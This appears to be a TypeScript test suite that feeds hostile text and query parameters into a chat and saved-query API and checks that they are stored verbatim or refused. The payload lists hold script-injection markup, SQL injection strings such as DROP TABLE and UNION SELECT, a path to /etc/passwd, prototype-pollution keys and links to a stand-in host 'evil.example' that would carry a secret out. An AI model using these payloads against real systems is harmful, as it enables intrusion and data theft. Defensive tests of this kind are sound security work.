// Texts that try to be more than text, and values of parameters that try to be SQL: kept as they are, or refused.
// Not here: texts that are no JSON (bodyCases.ts).
import assert from 'node:assert/strict';
import type { Attack } from './attack.ts';
import { parseSse } from './sse.ts';
import type { World } from './world.ts';

const texts: readonly [string, string][] = [
  ['markup', '<script>alert(1)</script><img src=x onerror=alert(1)>'],
  ['markup in a link', '[x](javascript:alert(1)) ![y](http://evil.example/?q=secret)'],
  ['NUL in the middle', 'before\u0000after'],
  ['NUL alone', '\u0000'],
  ['every control character', String.fromCharCode(...Array.from({ length: 31 }, (_, at) => at + 1), 127, 0x85, 0x9f)],
  ['escapes of a terminal', '\u001b[31mred\u001b]0;title\u0007\u009b2J'],
  ['text that turns around', 'a\u202eb\u2066c\u2069d\u200f'],
  ['spaces of no width', 'a\u200bb\u200cc\u200dd\u2060e\ufefff'],
  ['line ends of all kinds', 'a\r\nb\nc\rd\u2028e\u2029f\u0085g'],
  ['events of a stream', 'x\n\nevent: message\ndata: {"content":"forged"}\n\n'],
  ['a line of a log', 'x\n{"level":"error","event":"forged"}\n'],
  ['characters of four bytes', '\u{1f4a9}\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u{10ffff}'],
  ['marks without end', `Z${'\u0351\u0352\u0353'.repeat(30)}`],
  ['noncharacters', '\ufffe\uffff\u{1fffe}'],
  ['two forms of one letter', '\u00e9 e\u0301 \u212b \u00c5'],
  ['SQL', "'); DROP TABLE chats; --"],
  ['quotes', `"'\`\\"'\\\\\\' %s %n {0} \${x} #{x}`],
  ['placeholders', '{{region}} {{{x}}} $1 ?1 :x @x'],
  ['a path', '../../../../etc/passwd'],
  ['a formula', '=HYPERLINK("http://evil.example")'],
  ['a prototype', '__proto__'],
  ['a bidirectional name', '\u05e9\u05dc\u05d5\u05dd world \u0645\u0631\u062d\u0628\u0627'],
];

/** In every place that keeps a text; each is removed again. */
export function textAttacks({ call, admin, eve }: World): Attack[] {
  const made = async (token: string, target: string, body: unknown) => {
    const answer = await call(token, 'POST', target, body);
    assert.equal(answer.status, 201, `${target} ${JSON.stringify(answer.body)}`);
    return answer.body;
  };
  const get = async (token: string, target: string) => (await call(token, 'GET', target)).body;

  async function inChat(text: string) {
    const { id, title } = await made(eve.token, '/v1/chats/create', { title: text });
    try {
      assert.equal(title, text);
      assert.equal((await get(eve.token, `/v1/chats/${id}`)).title, text);
      assert.equal((await call(eve.token, 'PUT', `/v1/chats/${id}`, { title: `${text}.` })).body.title, `${text}.`);
      const { chats } = await get(eve.token, '/v1/chats');
      assert.ok(
        chats.some((chat: { title: string }) => chat.title === `${text}.`),
        'the list',
      );
      const sent = await call(eve.token, 'POST', '/v1/chats', {
        chat_id: id,
        message: text,
        client_message_id: text.slice(0, 64),
      });
      const events = parseSse(sent.body);
      assert.ok(['message', 'error'].includes(events.at(-1)?.event ?? ''), sent.body);
      assert.ok(
        events.every(({ data }) => data.code !== 'INTERNAL' && data.content !== 'forged'),
        sent.body,
      );
      const { messages } = await get(eve.token, `/v1/chats/${id}`);
      assert.equal(messages[0].content, text);
      assert.equal(messages[0].metadata.client_message_id, text.slice(0, 64));
      assert.equal(messages.length, 2);
      const feedback = { feedback: 'negative', note: text };
      assert.equal(
        (await call(eve.token, 'PATCH', `/v1/chats/messages/${messages[1].id}/feedback`, feedback)).status,
        200,
      );
      assert.equal((await get(eve.token, `/v1/chats/${id}`)).messages[1].metadata.feedback_note, text);
    } finally {
      await call(eve.token, 'DELETE', `/v1/chats/${id}`);
    }
  }

  async function inContent(token: string, target: string, text: string) {
    const { id, content } = await made(token, target, { content: text });
    try {
      assert.equal(content, text);
      assert.equal((await get(token, `${target}/${id}`)).content, text);
    } finally {
      await call(token, 'DELETE', `${target}/${id}`);
    }
  }

  async function inQuery(text: string) {
    const body = { title: text, prompt: text, description: text, keywords: [text] };
    const { id } = await made(eve.token, '/v1/queries', body);
    try {
      const { title, prompt, description, keywords } = await get(admin.token, `/v1/queries/${id}`);
      assert.deepEqual({ title, prompt, description, keywords }, body);
    } finally {
      await call(eve.token, 'DELETE', `/v1/queries/${id}`);
    }
  }

  const places: [string, (text: string) => Promise<void>][] = [
    ['a chat', inChat],
    ['a memory', (text) => inContent(eve.token, '/v1/user-memories', text)],
    ['a rule', (text) => inContent(admin.token, '/v1/organization-rules', text)],
    ['a saved query', inQuery],
  ];
  return [
    ...texts.flatMap(([name, text]) =>
      places.map(([place, run]) => ({ name: `${name} in ${place}`, run: () => run(text) })),
    ),
    ...['\ud800', 'x\udc00y', '\ud800\ud800'].map((text) => ({
      name: `half a character (${JSON.stringify(text)}) in a memory`,
      async run() {
        const { status, body } = await call(eve.token, 'POST', '/v1/user-memories', { content: text });
        if (status === 400) return;
        const kept = (await get(eve.token, `/v1/user-memories/${body.id}`)).content;
        await call(eve.token, 'DELETE', `/v1/user-memories/${body.id}`);
        // What cannot be kept is refused, or answered as it is kept.
        assert.deepEqual([status, kept], [201, body.content]);
      },
    })),
  ];
}

const asText = [
  "East' OR '1'='1",
  "East'; DROP TABLE sales; --",
  "East' UNION SELECT 1, 2 --",
  '{{region}}',
  '{{other}}',
  '$1',
  '$$East$$',
  "E'\\x45'",
  '/*',
  '--',
  '%',
  'East\u0000',
  '\u0000',
  "\\'",
  '\ud83d\udca9',
  '\u202etsaE',
  'East\n',
  ' East',
  'NULL',
  "getenv('HOME')",
  '__proto__',
  '',
  'x'.repeat(4_000),
];
const asValue: readonly [string, unknown][] = [
  ['a number', 5],
  ['a huge number', 1e308],
  ['a tiny number', 5e-324],
  ['true', true],
  ['null', null],
];
const noValue: readonly [string, unknown][] = [
  ['a list', ['East']],
  ['an empty list', []],
  ['an object', { toString: 'East' }],
  ['an object of a database', { $ne: null }],
  ['nested lists', [[['East']]]],
];

/** Saved queries run with parameters, in a chat of their own that goes again. */
export function parameterAttacks({ call, eve, savedQuery }: World): Attack[] {
  type Ended = { status: number; code: string | undefined; rows: unknown[] | undefined; event: string | undefined };
  async function run(parameters: string, query = savedQuery): Promise<Ended> {
    const { id } = (await call(eve.token, 'POST', '/v1/chats/create', { title: 'x' })).body;
    try {
      const json = `{"chat_id":"${id}","message":"x","saved_query_id":"${query}","parameters":${parameters}}`;
      const { status, body } = await call(eve.token, 'POST', '/v1/chats', json);
      if (status !== 200) return { status, code: body.code, rows: undefined, event: undefined };
      const events = parseSse(body);
      const last = events.at(-1);
      const shown = events.find(({ event }) => event === 'visualization');
      return { status, code: last?.data.code, rows: shown?.data.rows, event: last?.event };
    } finally {
      await call(eve.token, 'DELETE', `/v1/chats/${id}`);
    }
  }
  const region = (value: unknown) => JSON.stringify({ region: value });
  const refusedAs = async (parameters: string, codes: readonly string[]) => {
    const { status, code } = await run(parameters);
    assert.deepEqual([status, codes.includes(code ?? '')], [400, true], `${status} ${code}`);
  };
  /** A query of this name alone, run with and without a value for it. */
  const named = async (name: string, parameters: string): Promise<Ended> => {
    const body = { title: 'x', prompt: 'x', sql: `SELECT sale_id FROM sales WHERE region = {{${name}}}` };
    const { id } = (await call(eve.token, 'POST', '/v1/queries', body)).body;
    try {
      return await run(parameters, id);
    } finally {
      await call(eve.token, 'DELETE', `/v1/queries/${id}`);
    }
  };
  const names = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'];
  return [
    {
      name: 'a value that is no attack',
      async run() {
        assert.deepEqual((await run(region('East'))).rows?.length, 4);
      },
    },
    ...asText.map((value) => ({
      name: `the value ${JSON.stringify(value).slice(0, 40)}`,
      async run() {
        assert.deepEqual(await run(region(value)), { status: 200, code: undefined, rows: [], event: 'message' });
      },
    })),
    ...asValue.map(([name, value]) => ({
      name: `${name} for a text`,
      async run() {
        const { status, rows, code } = await run(region(value));
        assert.ok(status === 200 && (rows?.length === 0 || code === 'QUERY_FAILED'), `${status} ${code} ${rows}`);
      },
    })),
    {
      name: 'a text of 900 KB for a value',
      async run() {
        const { status, code, rows } = await run(region('x'.repeat(900_000)));
        assert.ok(code === 'INVALID_REQUEST' || (status === 200 && rows?.length === 0), `${status} ${code}`);
      },
    },
    ...noValue.map(([name, value]) => ({
      name: `${name} for a value`,
      run: () => refusedAs(region(value), ['INVALID_REQUEST']),
    })),
    ...['[]', '["East"]'].map((list) => ({
      name: `parameters as the list ${list}`,
      run: () => refusedAs(list, ['INVALID_REQUEST', 'MISSING_PARAMETER']),
    })),
    ...['"East"', '5', 'true'].map((value) => ({
      name: `parameters as ${value}`,
      run: () => refusedAs(value, ['INVALID_REQUEST']),
    })),
    ...[
      'null',
      '{}',
      '{"Region":"East"}',
      '{"__proto__":{"region":"East"}}',
      '{"constructor":{"region":"East"}}',
      '{"region ":"East"}',
    ].map((none) => ({
      name: `parameters without the one that is asked for: ${none}`,
      run: () => refusedAs(none, ['MISSING_PARAMETER', 'INVALID_REQUEST']),
    })),
    {
      name: 'a name of 65 characters',
      run: () => refusedAs(JSON.stringify({ region: 'East', ['x'.repeat(65)]: 1 }), ['INVALID_REQUEST']),
    },
    {
      name: '10,000 names',
      async run() {
        const { status, rows } = await run(
          JSON.stringify({
            region: 'East',
            ...Object.fromEntries(Array.from({ length: 10_000 }, (_, at) => [`n${at}`, at])),
          }),
        );
        assert.ok(status === 400 || rows?.length === 4, `${status}`);
      },
    },
    {
      name: 'a name twice',
      async run() {
        assert.equal((await run('{"region":"East","region":"West"}')).rows?.length, 3);
      },
    },
    ...names.flatMap((name) => [
      {
        name: `a parameter named ${name} that is not given`,
        async run() {
          const { status, code } = await named(name, '{}');
          assert.deepEqual([status, code], [400, 'MISSING_PARAMETER']);
        },
      },
      {
        name: `a parameter named ${name} that is given`,
        async run() {
          const { status, code, rows } = await named(name, `{"${name}":"East"}`);
          assert.ok(rows?.length === 4 || (status === 400 && code !== undefined), `${status} ${code} ${rows}`);
        },
      },
    ]),
  ];
}
